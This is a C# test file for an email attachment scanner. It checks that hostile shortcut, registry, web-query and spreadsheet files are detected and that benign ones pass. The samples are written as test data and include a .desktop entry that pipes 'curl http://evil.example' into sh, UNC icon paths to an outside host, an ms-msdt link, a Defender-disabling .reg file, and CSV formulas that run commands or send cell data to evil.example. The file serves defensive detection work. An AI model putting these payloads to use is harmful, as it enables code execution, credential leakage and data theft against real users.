using Platform.Engine.Tests.Detectors.Files;

namespace Platform.Engine.Tests.Attachments.Shortcuts;

public sealed class TextShortcutTests
{
    public static TheoryData<string, string, string> Hostile => new()
    {
        { "shortcut-remote", "a.url", "[InternetShortcut]\r\nURL=file://203.0.113.9/x/a.exe\r\n" },
        { "shortcut-remote", "a.url", "[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\203.0.113.9\\x\\a.ico\r\n" },
        { "shortcut-command", "a.url", "[InternetShortcut]\r\nURL=file:///C:/Windows/System32/cmd.exe\r\n" },
        { "shortcut-command", "a.url", "[InternetShortcut]\r\nURL=ms-msdt:/id PCWDiagnostic\r\n" },
        { "shortcut-remote", "a.search-ms", "<persistedQuery><query><scope><include path=\"\\\\files.evil.example\\x\"/></scope></query></persistedQuery>" },
        { "shortcut-remote", "a.library-ms", "<libraryDescription><simpleLocation><url>\\\\203.0.113.9\\x</url></simpleLocation></libraryDescription>" },
        { "shortcut-command", "a.settingcontent-ms", "<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>" },
        { "shortcut-command", "a.msc", "<MMC_ConsoleFile><StringTables><String>res://apds.dll/redirect.html?target=javascript:eval(1)</String></StringTables></MMC_ConsoleFile>" },
        { "shortcut-command", "a.desktop", "[Desktop Entry]\nExec=sh -c 'curl http://evil.example | sh'\n" },
        { "shortcut-command", "a.inf", "[DefaultInstall]\r\nRunPreSetupCommands=x\r\n[x]\r\ncmd.exe /c calc\r\n" },
        { "shortcut-remote", "a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\x.ico\r\n" },
        { "shortcut-command", "a.inetloc", "<plist><dict><key>URL</key><string>file:///System/Applications/Calculator.app</string></dict></plist>" },
        { "shortcut-installs", "a.appref-ms", "https://evil.example/a.application#a.application, Culture=neutral" },
        { "remote-desktop-shares", "a.rdp", "full address:s:rdp.evil.example\r\ndrivestoredirect:s:*\r\n" },
        { "remote-desktop-outside", "a.rdp", "full address:s:rdp.evil.example:3389\r\n" },
        { "registry-autostart", "a.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"calc.exe\"\r\n" },
        { "registry-lock", "a.reg", "REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n\"DisableAntiSpyware\"=dword:00000001\r\n" },
        { "web-query-remote", "a.iqy", "WEB\r\n1\r\nhttps://evil.example/q.dat\r\n" },
        { "sheet-command", "a.csv", "name,value\r\nx,=cmd|' /C calc'!A0\r\n" },
        { "sheet-command", "a.csv", "name,value\r\nx,\"@SUM(1+1)*mshta|'https://evil.example'!A0\"\r\n" },
        { "sheet-sends-cells", "a.csv", "name,value\r\nx,\"=WEBSERVICE(\"\"https://evil.example/?q=\"\"&A2)\"\r\n" },
        { "sheet-command", "a.slk", "ID;P\r\nO;E\r\nC;X1;Y1;EEXEC(\"calc.exe\")\r\nE\r\n" },
        { "sheet-auto-open", "a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc.exe\")\r\nE\r\n" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        { "a.url", "[InternetShortcut]\r\nURL=https://partner.example/page\r\nIconFile=https://partner.example/favicon.ico\r\n" },
        { "a.url", "[InternetShortcut]\r\nURL=file://fileserver/public/plans\r\n" },
        { "a.webloc", "<plist><dict><key>URL</key><string>https://partner.example/</string></dict></plist>" },
        { "a.rdp", "full address:s:ts01.corp.local\r\ndrivestoredirect:s:*\r\n" },
        { "a.settingcontent-ms", "<PCSettings><DeepLink>ms-settings:display</DeepLink></PCSettings>" },
        { "a.library-ms", "<libraryDescription><simpleLocation><url>\\\\fileserver\\public</url></simpleLocation></libraryDescription>" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void What_a_small_file_does_is_seen(string fact, string name, string text)
    {
        Assert.Contains(fact, Opened.FactsOf(name, TestFiles.Text(text)));
    }

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_small_file_is_plain(string name, string text)
    {
        Assert.Equal(["shortcut-plain"], Opened.FactsOf(name, TestFiles.Text(text)));
    }

    [Theory]
    [InlineData("a,b\r\n1,=SUM(A1:A9)\r\n")]
    [InlineData("a,b\r\n1,-12.5\r\n2,+81-3-1234-5678\r\n")]
    [InlineData("a,b\r\n1,\"=HYPERLINK(\"\"https://shop.example/\"\",\"\"shop\"\")\"\r\n")]
    [InlineData("a,b\r\n@team,x|y\r\n")]
    [InlineData("a,b\r\nEURUSD,=MT4|BID!EURUSD\r\n")]
    public void An_ordinary_table_says_nothing(string text)
    {
        Assert.Empty(Opened.FactsOf("a.csv", TestFiles.Text(text)));
    }

    [Fact]
    public void A_list_of_SharePoint_is_a_plain_query()
    {
        Assert.Equal(["web-query-plain"], Opened.FactsOf("a.iqy", TestFiles.Text("WEB\r\n1\r\nhttps://acme.sharepoint.com/_vti_bin/owssvr.dll?List=1\r\n\r\nSharePointListName=x\r\n")));
    }

    [Fact]
    public void The_page_of_a_shortcut_is_a_link_of_the_mail()
    {
        Assert.Contains(Opened.File("a.url", TestFiles.Text("[InternetShortcut]\r\nURL=https://partner.example/page\r\n")).Links, link => link.Target == "https://partner.example/page");
    }
}
